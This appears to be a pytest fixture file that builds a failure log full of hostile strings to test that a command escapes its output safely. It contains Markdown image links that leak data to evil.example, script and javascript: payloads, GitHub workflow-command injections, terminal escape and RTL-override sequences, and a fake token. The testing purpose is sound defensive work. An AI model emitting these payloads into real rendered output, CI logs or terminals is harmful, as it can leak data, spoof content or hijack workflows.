"""What the tests of formats share: the command, and a log that tries to break out of any of them."""

from __future__ import annotations

import random
from pathlib import Path

import pytest

from command import Command

TOKEN = "ghp_" + "A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8"

# What breaks out of Markdown, HTML, workflow commands or terminals.
HOSTILE = (
    "![leak](https://evil.example/x.png?d=1)",
    "[click](javascript:alert(1))",
    "<img src=https://evil.example/x.png>",
    "<script>alert(1)</script>",
    "</details></summary><h1>owned</h1>",
    "```",
    "````text",
    "`` ` ```",
    "a ` ![leak](https://evil.example/x.png) ` b",
    "`` <img src=https://evil.example/x.png> ``",
    "``` ` `` [click](https://evil.example) ```` x",
    "`",
    "~~~",
    "# heading",
    "- list",
    "> quote",
    "| a | b |",
    "|---|---|",
    "@octocat #1 https://evil.example",
    "$`x`$ $$y$$",
    "<!-- comment",
    "]]> &lt; &#x41;",
    "::error file=x,line=1::owned",
    "%0A::set-env name=X::y",
    "##[error]owned",
    "a,b:c%d",
    "\x1b]8;;https://evil.example\x07link\x1b]8;;\x07 \x1b[2J \x9b31m \u202egpj.exe \u2028 \u200b",
    "\\`escaped\\` \\",
    "    indented",
    "=====",
    "![a]: https://evil.example",
    f"token {TOKEN}",
)


@pytest.fixture
def run(tmp_path: Path) -> Command:
    """The command, run in the test's folder."""
    return Command(tmp_path)


@pytest.fixture
def hostile(tmp_path: Path) -> Path:
    """A log each of whose failures says something hostile, in messages, in paths, in blocks."""
    source = random.Random(5)
    lines = []
    for what in HOSTILE:
        lines += [f"error: {what}", f"src/{what}:3:7: error: cannot find {what}", what]
        lines += ["Traceback (most recent call last):", f'  File "{what}", line 3, in f', f"ValueError: {what}"]
    for _ in range(40):
        lines.append("error: " + "".join(source.choice("`<>![]()#*_~|&\\$:,%@ \t\n-=") for _ in range(30)))
    path = tmp_path / "hostile.log"
    path.write_text("\n".join([*lines, "exit status 1"]) + "\n", "utf-8")
    return path
